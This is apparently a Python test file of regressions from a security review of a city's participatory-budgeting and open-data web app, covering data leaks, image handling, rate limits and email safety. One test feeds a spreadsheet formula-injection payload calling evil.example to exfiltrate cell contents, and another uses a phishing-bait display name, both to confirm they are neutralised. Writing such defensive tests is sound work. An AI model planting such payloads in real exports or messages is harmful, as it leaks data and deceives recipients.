"""Regressions found by a security review of the open data, the year view, the event card and
the embeds (7 December 2026)."""

from __future__ import annotations

import asyncio
import io
import re

import httpx
import pytest
from sqlalchemy import func, select

from app.images import PictureError, prepare_picture
from app.opendata import datasets
from app.opendata.controllers import forget_cached_files
from tests.app.test_event_report import close
from tests.app.test_open_data import an_event, rows_of
from tests.factories import make_area
from tests.surveys.factories import answer, open_questionnaire
from tests.voting.test_pb_audit import published_round


@pytest.fixture(autouse=True)
def fresh_files():
    forget_cached_files()
    yield
    forget_cached_files()


async def test_feedback_open_data_leaves_out_staff_only_events(client, db):
    """A staff-only event must not be counted in the public feedback figures: otherwise the
    difference between `feedback` and `events` reveals it (its participants, hours, answers)."""
    kallio = await make_area(db, "Kallio", population=20_000, year=2025)
    public = await an_event(db, "2025-05-05T17:00", 2, area=kallio, participants=40)
    form = await open_questionnaire(db, public)
    for score in (5, 4, 4, 4, 4):
        assert await answer(db, form, {"satisfaction": score})
    hidden = await an_event(
        db, "2025-05-06T17:00", 7, area=kallio, public=False, participants=95, visitors=3
    )
    staff_form = await open_questionnaire(db, hidden)
    for score in (1, 1):
        assert await answer(db, staff_form, {"satisfaction": score})
    await close(db, form)
    await close(db, staff_form)

    [row] = rows_of((await client.get("/open-data/feedback.csv")).text)
    assert (row["events"], row["hours"], row["participants"]) == ("1", "2.0", "40")
    assert row["responses"] == "5"
    assert row["satisfaction_mean"] == "4.2"


def _png(width: int, height: int) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (width, height), (10, 120, 200)).save(out, "PNG")
    return out.getvalue()


@pytest.mark.parametrize("size", [(16, 19_999), (1170, 17_000)])
def test_a_picture_longer_than_webp_allows_is_refused_not_a_crash(size):
    """A long screenshot (1170 x 17,000, 20 MP) passed the checks and then failed in the WebP
    encoder ("Image size exceeds WebP limit of 16383 pixels"): a 500 for staff."""
    with pytest.raises(PictureError) as refused:
        prepare_picture(_png(*size))
    assert refused.value.reason == "too_many_pixels"


def test_a_phone_jpeg_with_a_second_picture_mpo_is_taken():
    """Many phones write JPEGs in the Multi-Picture Format (Pillow: "MPO"); it was refused as
    "not a picture in JPEG, PNG or WebP format"."""
    from PIL import Image

    out = io.BytesIO()
    first = Image.new("RGB", (800, 600), (200, 40, 40))
    first.save(out, "MPO", save_all=True, append_images=[Image.new("RGB", (160, 120))])
    assert Image.open(io.BytesIO(out.getvalue())).format == "MPO"
    prepared = prepare_picture(out.getvalue())
    assert prepared.width == 800
    assert [width for width, _ in prepared.variants] == [160, 240, 320, 640, 800]


async def test_pb_results_name_the_budget_area_in_finnish_not_as_a_python_dict(client, db):
    """`budget_area` held "{'fi': 'Kallio', 'sv': ...}" (a Python repr) in the CSV and an object
    in the JSON, though the codebook says text."""
    _round, _proposals, _receipts = await published_round(db)
    rows = rows_of((await client.get("/open-data/pb-results.csv")).text)
    areas = {row["budget_area"] for row in rows if row["budget_area_id"]}
    assert areas == {"Kallio"}
    document = (await client.get("/open-data/pb-results.json")).json()
    assert all(
        row["budget_area"] is None or isinstance(row["budget_area"], str)
        for row in document["rows"]
    )


async def test_a_flood_of_downloads_while_the_file_is_being_made_reads_the_database_once(
    client, db, monkeypatch
):
    """Requests that arrive while the file is being made wait for it instead of each reading
    the database again (a flood at the moment the cached file expires did one read each)."""
    calls = 0
    real = datasets.event_rows

    async def slow(session):
        nonlocal calls
        calls += 1
        await asyncio.sleep(0.2)  # a big city's year of events takes a while
        return await real(session)

    monkeypatch.setattr(datasets, "event_rows", slow)
    # Truly concurrent requests (the test client sends one at a time).
    transport = httpx.ASGITransport(app=client.app)
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as direct:
        responses = await asyncio.gather(*(direct.get("/open-data/events.csv") for _ in range(20)))
    assert {response.status_code for response in responses} == {200}
    assert len({response.content for response in responses}) == 1
    assert calls == 1


async def test_the_event_card_gives_away_no_single_answer_by_differencing(client, db):
    """The card's figures follow each answer while the questionnaire is open: read before and
    after one person answers, and 6 x 3.5 - 5 x 4.0 = 1 is that person's satisfaction, though
    the card promises that "no one's answer could be singled out". Fixed: the means wait until
    the questionnaire has closed."""
    from tests.app.test_event_report import held_event

    event = await held_event(db)
    form = await open_questionnaire(db, event)
    for _ in range(5):
        assert await answer(db, form, {"satisfaction": 4})
    before = (await client.get(f"/events/{event.id}/report?lang=en")).text
    assert await answer(db, form, {"satisfaction": 1})
    after = (await client.get(f"/events/{event.id}/report?lang=en")).text
    scale = r"([0-9]+[.,][0-9]) on a scale of 1 to 5"
    revealed = re.findall(scale, before) == ["4,0"] and re.findall(scale, after) == ["3,5"]
    assert not revealed, "one resident's answer can be worked out from two readings"


# --- Second tour (7 December 2026): the ideas phase, voting, polls and exports ---------------


async def test_a_proposal_title_is_never_a_formula_in_the_open_data_csv(client, db):
    """A resident's idea titled `=HYPERLINK(...)` reached the public pb-results.csv as it was:
    the spreadsheet of whoever opened the open data ran it (the staff exports already prefixed
    such cells). The JSON keeps the title as written."""
    from tests.voting.factories import (
        add_proposal,
        adult_birth_date,
        make_round,
        move_to,
        put_on_roll,
    )
    from tests.voting.test_pb_audit import SEED
    from voting.ballots import cast_ballot
    from voting.models import RollEntry
    from voting.publication import publish

    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    kallio = await make_area(db, "Kallio")
    round_ = await make_round(db, "voting", {kallio.id: 100_000, None: 300_000})
    formula = await add_proposal(db, round_, kallio, hostile, 60_000)
    plus = await add_proposal(db, round_, kallio, "+358 40 123", 30_000)
    at = await add_proposal(db, round_, None, "@SUM(1+1)", 200_000)
    await put_on_roll(db, round_, [("VOTER00001", adult_birth_date(), kallio)])
    entry = await db.scalar(select(RollEntry).where(RollEntry.round_id == round_.id))
    await cast_ballot(db, round_, entry.id, "online", {formula.id: 1, plus.id: 1, at.id: 1})
    await move_to(db, round_, "counting")
    await publish(db, round_, SEED, None)
    rows = rows_of((await client.get("/open-data/pb-results.csv")).text)
    titles = {row["proposal_fi"] for row in rows}
    assert titles == {"'" + hostile, "'+358 40 123", "'@SUM(1+1)"}
    document = (await client.get("/open-data/pb-results.json")).json()
    assert hostile in {row["proposal_fi"] for row in document["rows"]}


async def test_a_stranger_s_chosen_name_is_not_mailed_to_an_unconfirmed_address(client, db):
    """Found by attack: anyone could register someone else's address with a "name" such as a
    phone number or a web address, and the city's own confirmation message greeted the owner of
    the address with it (the same for a change of address): a phishing text from a genuine
    sender. A message to an address not yet confirmed now names no one; messages to confirmed
    owners keep their name, escaped in HTML."""
    from app.mail import OutboxMessage
    from app.mail.messages import render
    from app.settings import Settings
    from tests.conftest import TEST_SECRET

    bait = "Soita 0700 123 456 https://evil.example"
    await client.get("/account/register?lang=en")
    registered = await client.post(
        "/account/register",
        data={
            "_csrf_token": client.cookies["tori_csrf"],
            "email": "owner@example.fi",
            "display_name": bait,
            "password": "a long enough passphrase",
            "password_again": "a long enough passphrase",
        },
    )
    assert registered.status_code == 200
    [message] = list(await db.scalars(select(OutboxMessage)))
    assert message.template == "account_confirm"
    settings = Settings(secret_key=TEST_SECRET)
    for language in ("fi", "sv", "en"):
        rendered = render(settings, message.template, language, message.context)
        assert "evil.example" not in rendered.text + rendered.html + rendered.subject
        assert "0700" not in rendered.text + rendered.html
    changed = render(settings, "email_change", "sv", {"name": bait, "link": "https://x.example/"})
    assert "evil.example" not in changed.text + changed.html
    assert "Hej," in changed.text
    owner = render(settings, "password_reset", "fi", {"name": "<b>Aino</b>", "link": "https://x/"})
    assert "<b>Aino</b>" in owner.text
    assert "&lt;b&gt;Aino&lt;/b&gt;" in owner.html
    assert "<b>Aino" not in owner.html


async def test_one_resident_cannot_flood_the_moderators_with_ideas(client, db):
    """Found by attack: a signed-in resident could post ideas without any limit (a script sent
    hundreds a minute, each a check for the moderators and a message to the outbox). Ten an
    hour are taken; the eleventh is refused with a message and stores nothing."""
    from tests.voting.factories import make_round
    from tests.voting.test_pb_rounds import register_and_sign_in
    from voting.models import Proposal

    ideas_per_hour = 10  # voting.rounds.IDEAS_PER_HOUR
    kallio = await make_area(db, "Kallio")
    round_ = await make_round(db, "ideas", {kallio.id: 100_000})
    await register_and_sign_in(client, db)
    for n in range(ideas_per_hour + 2):
        sent = await client.post(
            f"/pb/{round_.slug}/propose",
            data={
                "_csrf_token": client.cookies["tori_csrf"],
                "language": "en",
                "title": f"Benches {n}",
                "description": "More benches",
                "area": str(kallio.id),
                "estimated_cost": "1000",
            },
        )
        if n < ideas_per_hour:
            assert sent.status_code == 303, n
    assert sent.status_code == 429
    assert "many ideas in a short time" in sent.text
    assert await db.scalar(select(func.count()).select_from(Proposal)) == ideas_per_hour


async def test_an_author_cannot_flood_an_idea_with_edits(client, db):
    """Found by attack: an author could edit their idea without limit (a script, thousands a
    minute), each edit keeping one more version and sending the idea back to the moderators.
    Twenty edits of one idea an hour are taken; the next is refused and stores nothing."""
    from tests.voting.test_pb_own_ideas import edit_fields, send_idea
    from voting.models import ProposalVersion

    edits_per_hour = 20  # voting.own_ideas.EDITS_PER_HOUR
    round_, idea = await send_idea(client, db)
    url = f"/pb/{round_.slug}/proposals/{idea.id}/edit"
    for n in range(edits_per_hour):
        edited = await client.post(url, data=edit_fields(client, title=f"Bänkar {n}"))
        assert edited.status_code == 303, n
    refused = await client.post(url, data=edit_fields(client, title="Bänkar igen"))
    assert refused.status_code == 429
    assert "many times in a short time" in refused.text
    assert await db.scalar(select(func.count()).select_from(ProposalVersion)) == edits_per_hour
